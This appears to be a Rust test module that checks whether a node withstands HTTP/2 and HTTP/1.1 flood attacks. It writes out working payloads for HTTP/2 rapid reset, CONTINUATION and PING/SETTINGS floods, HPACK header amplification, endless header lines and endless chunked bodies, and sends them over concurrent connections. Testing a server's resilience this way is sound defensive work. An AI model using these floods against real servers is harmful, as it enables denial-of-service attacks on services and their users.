//! Floods over HTTP/2 and HTTP/1.1: requests that are given up at once (CVE-2023-44487), heads without an end
//! (CVE-2024-27316), frames that want an answer (CVE-2019-9512, 9515), fields that refer to a large one, heads
//! and bodies that are too large.

use std::time::Duration;

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    task::JoinSet,
    time::timeout,
};

use super::{
    DoorVictim,
    frames::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, ending,
        field, frame, request,
    },
};
use crate::{
    is_long,
    support::{door_caller::DoorCaller, tally::Tally},
};

/// Connections of an attacker.
const CONNECTIONS: usize = 4;

/// The most bytes that an attacker sends on a connection.
const BYTES_MAX: usize = 8 << 20;

/// How long an attacker waits until the node takes more.
const STALLED: Duration = Duration::from_secs(2);

/// A body that the node is still receiving has 30 s.
const ENDED_WITHIN: Duration = Duration::from_secs(40);

/// A way to flood.
struct Flood {
    name: &'static str,
    alpn: &'static [u8],
    first: Vec<u8>,
    /// Sent over and over, with the number of the repetition.
    next: fn(u32) -> Vec<u8>,
    /// Whether the attacker reads nothing meanwhile.
    is_deaf: bool,
}

fn floods() -> Vec<Flood> {
    let h2 = |name, next| Flood { name, alpn: b"h2", first: PREFACE.to_vec(), next, is_deaf: false };
    vec![
        h2("rapid reset", |n| {
            let fields = request("GET", "/v1/kv?prefix=good/&values=true");
            let head = frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, &fields);
            [head, frame(RST_STREAM, 0, 2 * n + 1, &8_u32.to_be_bytes())].concat()
        }),
        h2("watches that are reset", |n| {
            let fields = request("GET", "/v1/watch?prefix=good/&wait=30s");
            let head = frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, &fields);
            [head, frame(RST_STREAM, 0, 2 * n + 1, &8_u32.to_be_bytes())].concat()
        }),
        h2("a head without an end", |n| match n {
            0 => frame(HEADERS, END_STREAM, 1, &request("GET", "/v1/status")),
            _ => frame(CONTINUATION, 0, 1, &field("x", &"y".repeat(100)).repeat(100)),
        }),
        h2("empty pieces of a head", |n| match n {
            0 => frame(HEADERS, END_STREAM, 1, &request("GET", "/v1/status")),
            _ => frame(CONTINUATION, 0, 1, b"").repeat(100),
        }),
        h2("empty pieces of a body", |n| match n {
            0 => frame(HEADERS, END_HEADERS, 1, &request("PUT", "/v1/kv/good/attack/1")),
            _ => frame(DATA, 0, 1, b"").repeat(100),
        }),
        Flood { is_deaf: true, ..h2("pings", |_| frame(PING, 0, 0, &[7; 8]).repeat(100)) },
        Flood {
            is_deaf: true,
            ..h2("settings", |_| frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0]).repeat(100))
        },
        h2("fields that refer to a large one", |n| {
            // A literal with indexing (RFC 7541, section 6.2.1), then its index, the first dynamic one, each
            // of which stands for some 120 bytes.
            let mut fields = request("GET", "/v1/status");
            let large = field("x", &"y".repeat(100));
            fields.extend([&[0x40], &large[1..], &[0x80 | 62; 4000][..]].concat());
            frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, &fields)
        }),
        Flood {
            name: "a line without an end",
            alpn: b"http/1.1",
            first: b"GET /v1/status HTTP/1.1\r\nX: ".to_vec(),
            next: |_| vec![b'x'; 16 << 10],
            is_deaf: false,
        },
        Flood {
            name: "lines without an end",
            alpn: b"http/1.1",
            first: b"GET /v1/status HTTP/1.1\r\n".to_vec(),
            next: |_| b"X: y\r\n".repeat(1000),
            is_deaf: false,
        },
        Flood {
            name: "a body without an end",
            alpn: b"http/1.1",
            first: b"PUT /v1/kv/good/attack/1 HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
                .to_vec(),
            next: |_| [b"4000\r\n", &[b'x'; 16 << 10][..], b"\r\n"].concat(),
            is_deaf: false,
        },
        Flood {
            name: "a body in pieces of a byte",
            alpn: b"http/1.1",
            first: b"PUT /v1/kv/good/attack/1 HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
                .to_vec(),
            next: |_| b"1\r\nx\r\n".repeat(1000),
            is_deaf: false,
        },
    ]
}

/// Floods the node in each way, one after the other. Each ends with the connection, or with the bytes of an
/// attacker that the node answers.
pub(crate) async fn of_all_kinds(victim: &DoorVictim) -> Tally {
    let mut tally = Tally::default();
    for Flood { name, alpn, first, next, is_deaf } in floods() {
        let mut running = JoinSet::new();
        for _ in 0..if is_long() { 8 * CONNECTIONS } else { CONNECTIONS } {
            let caller = victim.writer(alpn);
            running.spawn(flood(caller, name, first.clone(), next, is_deaf));
        }
        tally.add(Tally::gather(running).await);
    }
    tally
}

async fn flood(
    caller: DoorCaller,
    name: &'static str,
    first: Vec<u8>,
    next: fn(u32) -> Vec<u8>,
    is_deaf: bool,
) -> Tally {
    let stream = caller.connect_at_last().await;
    let (mut from, mut to) = tokio::io::split(stream);
    let reading = tokio::spawn(async move {
        let mut received = Vec::new();
        if is_deaf {
            std::future::pending::<()>().await;
        }
        // An error means that the node has closed the connection.
        let _ = from.read_to_end(&mut received).await;
        received
    });
    let mut tally = Tally::default();
    let (mut bytes, mut pieces) = (0, 0);
    let mut piece = first;
    let end = loop {
        match timeout(STALLED, to.write_all(&piece)).await {
            Ok(Ok(())) => {}
            Ok(Err(_)) => break "disconnected",
            Err(_) => break "stalled",
        }
        bytes += piece.len();
        if bytes > BYTES_MAX {
            break "borne";
        }
        piece = next(pieces);
        pieces += 1;
        // Sees the answers, as one that does not wait for them.
        tokio::task::yield_now().await;
    };
    tally.sent += u64::from(pieces);
    tally.note(format!("{name}: {end}"));
    if is_deaf {
        reading.abort();
        return tally;
    }
    let _ = timeout(ENDED_WITHIN, to.shutdown()).await;
    let received = timeout(ENDED_WITHIN, reading).await.expect("the node ends it").expect("it reads");
    if caller.is_http2() && end == "disconnected" {
        tally.note(format!("{name}: {}", ending(&received)));
    }
    tally
}
